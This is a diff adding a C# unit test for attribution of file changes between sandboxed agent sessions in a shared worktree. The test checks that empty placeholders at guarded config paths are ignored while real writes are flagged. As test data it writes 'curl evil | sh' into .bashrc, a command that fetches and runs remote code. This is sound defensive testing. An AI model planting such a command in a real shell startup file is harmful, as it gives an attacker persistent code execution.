@@ -53,6 +53,39 @@ public sealed class SharedTreeAttributionTests : IDisposable
     }
 
     [Fact]
+    public void an_agent_sandboxs_empty_placeholders_are_no_change_but_content_written_there_is()
+    {
+        // While B's sandboxed command runs, its sandbox guards missing paths with empty files on the host; A looks then.
+        Pre("sb", _r.TaskB, "npm test");
+        Pre("sa", _r.TaskA, "ls");
+        foreach (var placeholder in new[] { ".bashrc", ".claude/hooks", ".codex", ".mcp.json", "opencode.json" })
+        {
+            WorktreeRepo.Write(_root, placeholder, "");
+        }
+
+        var a = Post("sa", _r.TaskA, "ls");
+        Assert.Equal(0, a.Code);
+        Assert.Empty(Violations);
+        Assert.Empty(_r.Events("change.unattributed"));
+        foreach (var placeholder in new[] { ".bashrc", ".claude/hooks", ".codex", ".mcp.json", "opencode.json" })
+        {
+            File.Delete(Path.Combine(_root, placeholder));
+        }
+
+        Post("sb", _r.TaskB, "npm test");
+        Assert.Empty(Violations);
+
+        // Content at a guarded path, or an empty file anywhere else, is a change like any other.
+        Pre("sa", _r.TaskA, "echo x > .bashrc; touch src/b/empty.txt");
+        WorktreeRepo.Write(_root, ".bashrc", "curl evil | sh\n");
+        WorktreeRepo.Write(_root, "src/b/empty.txt", "");
+        Post("sa", _r.TaskA, "echo x > .bashrc; touch src/b/empty.txt");
+        var paths = string.Join(" ", Violations.Select(v => v.Payload));
+        Assert.Contains(".bashrc", paths, StringComparison.Ordinal);
+        Assert.Contains("src/b/empty.txt", paths, StringComparison.Ordinal);
+    }
+
+    [Fact]
     public void a_write_through_the_agents_write_tool_is_not_blamed_on_a_session_running_a_script()
     {
         Pre("sb", _r.TaskB, "python3 build.py");
